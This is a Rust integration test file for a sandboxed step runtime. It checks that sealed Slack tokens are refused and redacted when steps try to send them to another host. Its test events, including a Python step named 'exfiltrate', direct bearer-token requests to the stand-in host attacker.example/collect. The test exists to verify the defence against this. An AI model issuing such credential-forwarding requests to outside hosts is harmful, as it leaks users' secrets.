//! A request the host refuses tells the step why, in every language: the
//! host's reason (secrets redacted) reaches Rust's, Python's and JS's errors
//! through `stephost:step/egress`, never only a bare `HttpRequestDenied`.

use crate::languages::py_guest;
use crate::support::{GOOD_TOKEN, load, repo, serve_tls};
use axum::extract::{Request, State};
use axum::response::{IntoResponse, Response};
use serde_json::{Value, json};
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use stephost::secrets::PLACEHOLDER_PREFIX;
use stephost::{EgressConfig, HostPolicy, Runtime, RuntimeConfig, StepConfig, StepInput, StepOutcome};

/// The hosts each request reached, and nothing else.
type Reached = Arc<Mutex<Vec<String>>>;

/// A TLS server on 127.0.0.1 for `slack.com` and `attacker.example`. On
/// `/coding-echo` it answers with the bearer token it got as a content
/// coding (`Content-Encoding: x-<token>`), which the host refuses: the
/// reason the host gives names the coding, so it would hold the real token
/// if the host did not redact it.
struct CodingEcho {
    addr: SocketAddr,
    ca_pem: String,
    reached: Reached,
}

const NAMES: [&str; 2] = ["slack.com", "attacker.example"];

impl CodingEcho {
    async fn start() -> Self {
        let reached = Reached::default();
        let app = axum::Router::new().fallback(answer).with_state(reached.clone());
        let (addr, ca_pem) = serve_tls(&NAMES, app).await;
        Self { addr, ca_pem, reached }
    }

    /// A runtime that sends both names here, sharing the built steps'
    /// compiled-code cache.
    fn runtime(&self) -> Runtime {
        let egress = EgressConfig {
            resolve: NAMES.iter().map(|n| (n.to_string(), 443, self.addr)).collect(),
            extra_root_certs_pem: vec![self.ca_pem.clone().into_bytes()],
            ..EgressConfig::default()
        };
        Runtime::new(RuntimeConfig {
            egress,
            cache_dir: Some(repo().join("target/js-data/components")),
            max_concurrent_runs: 4,
            ..RuntimeConfig::default()
        })
        .unwrap()
    }

    fn reached(&self) -> Vec<String> {
        self.reached.lock().unwrap().clone()
    }
}

async fn answer(State(reached): State<Reached>, request: Request) -> Response {
    let header = |name: &str| request.headers().get(name).and_then(|v| v.to_str().ok()).unwrap_or_default();
    reached.lock().unwrap().push(header("host").to_string());
    if request.uri().path() == "/coding-echo" {
        let coding = format!("x-{}", header("authorization").trim_start_matches("Bearer "));
        return ([("content-encoding", coding)], "encoded").into_response();
    }
    "ok".into_response()
}

/// Runs `path` with the Slack account holding the real token, the step
/// allowed to reach attacker.example itself (so the refusal is the sealed
/// token's, not the host's); fails if the real token shows up anywhere in
/// what the step produced.
async fn run_with_slack(runtime: &Runtime, step: &stephost::StepComponent, event: Value) -> StepOutcome {
    let input = StepInput {
        step_name: "refusals".into(),
        event: event.to_string().into(),
        steps: vec![("trigger".into(), json!({ "event": event }).to_string().into())],
        auths: vec![("slack".into(), vec![("oauth_access_token".into(), GOOD_TOKEN.into())])],
        ..Default::default()
    };
    let config = StepConfig {
        policy: Arc::new(HostPolicy::parse(&["https://attacker.example"]).unwrap()),
        ..StepConfig::default()
    };
    let outcome = runtime.run(step, input, &config).await;
    let everything = serde_json::to_string(&outcome).unwrap();
    assert!(!everything.contains(GOOD_TOKEN), "the real token reached the step's outcome: {everything}");
    outcome
}

/// What the host says of the sealed token headed for attacker.example.
const WRONG_HOST: &str =
    "secret slack.oauth_access_token may not be sent to https://attacker.example:443 in header:authorization";

/// The redacted reason for the echoed coding: the placeholder, not the token.
fn assert_redacted_coding_reason(error: &str) {
    assert!(error.contains("refused by stephost: the response is encoded (content-encoding: x-"), "{error}");
    assert!(error.contains(PLACEHOLDER_PREFIX), "the placeholder stands for the token: {error}");
    assert!(!error.contains(GOOD_TOKEN), "the real token reached the step: {error}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rust_step_sending_the_sealed_token_to_another_host_gets_the_hosts_reason() {
    let server = CodingEcho::start().await;
    let runtime = server.runtime();
    let probe = load(&runtime, "probe");
    let bearer = json!({ "authorization": "Bearer {auth:slack.oauth_access_token}" });
    let event = json!({ "actions": [
        { "do": "http", "url": "https://attacker.example/collect", "headers": bearer },
        { "do": "http", "url": "https://slack.com/coding-echo", "headers": bearer },
        { "do": "http", "url": "https://attacker.example/without-the-token" },
    ]});
    let outcome = run_with_slack(&runtime, &probe, event).await;
    let seen = outcome.result.as_ref().unwrap_or_else(|e| panic!("{e}"));

    let refused = seen["http"][0]["error"].as_str().unwrap();
    assert!(
        refused.ends_with(&format!("refused by stephost: {WRONG_HOST} (HttpRequestDenied)")),
        "{refused}"
    );
    assert_redacted_coding_reason(seen["http"][1]["error"].as_str().unwrap());
    assert_eq!(seen["http"][2]["status"], 200, "attacker.example itself is allowed: {seen}");
    assert_eq!(server.reached(), ["slack.com", "attacker.example"], "the token went only to slack.com");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_python_step_sending_the_sealed_token_to_another_host_gets_the_hosts_reason() {
    let server = CodingEcho::start().await;
    let runtime = server.runtime();
    let step = runtime.load(&py_guest("exfiltrate")).unwrap();
    let event = json!({ "urls": ["https://attacker.example/collect", "https://slack.com/coding-echo"] });
    let outcome = run_with_slack(&runtime, &step, event).await;
    let value = outcome.result.as_ref().unwrap_or_else(|e| panic!("{e}"));

    // `requests`: its own exception, not a ConnectionError a retry loop would retry.
    let wrong_host = &value["attempts"][0];
    assert_eq!(
        wrong_host["error"],
        format!(
            "requests.exceptions.RequestRefused: GET https://attacker.example/collect: \
             refused by stephost: {WRONG_HOST} (HttpRequestDenied)"
        ),
        "{value}"
    );
    assert_eq!(wrong_host["connection_error"], false);
    assert_eq!(wrong_host["reason"], format!("{WRONG_HOST} (HttpRequestDenied)"));
    let echoed = &value["attempts"][1];
    assert_redacted_coding_reason(echoed["error"].as_str().unwrap());
    // The outcome is redacted on its way out: reversed, what the step was told shows as it was.
    let told: String = echoed["reversed"].as_str().unwrap().chars().rev().collect();
    assert_redacted_coding_reason(&told);
    // `stephost_http`: the same reason, for the body too.
    let refused = value["refused"].as_str().unwrap();
    assert!(
        refused.starts_with("POST https://attacker.example/collect: refused by stephost: secret "),
        "{refused}"
    );
    assert!(refused.contains("attacker.example:443"), "{refused}");
    assert_eq!(server.reached(), ["slack.com"], "nothing reached attacker.example");
}
